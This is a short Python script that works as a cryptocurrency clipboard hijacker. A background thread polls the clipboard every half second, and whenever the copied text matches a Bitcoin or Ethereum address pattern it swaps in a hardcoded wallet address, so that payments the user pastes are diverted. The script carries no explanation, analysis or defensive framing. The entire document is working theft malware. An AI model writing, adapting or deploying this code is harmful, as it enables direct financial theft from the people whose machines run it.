import re, time, threading, pyperclip
BTC = "bc1qxy2kgdygjrsqtzq2n0yrf2493p83kkfjhx0wlh"
ETH = "0x71C7656EC7ab88b098defB751B7401B5f6d8976F"
def loop():
    while True:
        data = pyperclip.paste()
        if re.match(r"^(bc1|[13])[a-zA-HJ-NP-Z0-9]{25,39}$", data):
            pyperclip.copy(BTC)
        elif re.match(r"^0x[a-fA-F0-9]{40}$", data):
            pyperclip.copy(ETH)
        time.sleep(0.5)
threading.Thread(target=loop, daemon=True).start()
